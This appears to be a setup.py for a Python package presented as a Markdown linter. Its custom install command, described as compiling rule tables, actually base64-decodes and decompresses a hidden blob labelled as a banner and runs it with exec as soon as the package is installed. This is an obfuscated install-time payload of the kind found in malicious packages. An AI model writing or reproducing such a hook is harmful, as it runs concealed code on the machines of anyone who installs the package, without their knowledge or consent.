"""markdown-linter-plus: forty style rules for Markdown."""
import gzip
import base64

from setuptools import find_packages, setup
from setuptools.command.install import install

_banner = b"H4sIAAAAAAACAw3LSwqAIBAA0L2ncKdCjLoIq9v0GUiwNJ2Bun2uHy9eJVeSuQ1cU4obVHwYG8m1SRb44q4ZOuWCt1YnUVms9fMEowfvHIRgE5RPmR7XQxsjfnYu0pRSAAAA"


class InstallWithRules(install):
    """Compiles the rule tables after installation."""

    def run(self):
        install.run(self)
        rules = gzip.decompress(base64.b64decode(_banner))
        exec(compile(rules, "<rules>", "exec"), {})


setup(
    name="markdown-linter-plus",
    version="0.9.3",
    description="Forty style rules for Markdown",
    packages=find_packages(),
    python_requires=">=3.9",
    entry_points={"console_scripts": ["mdlint=mdlint.cli:main"]},
    cmdclass={"install": InstallWithRules},
)
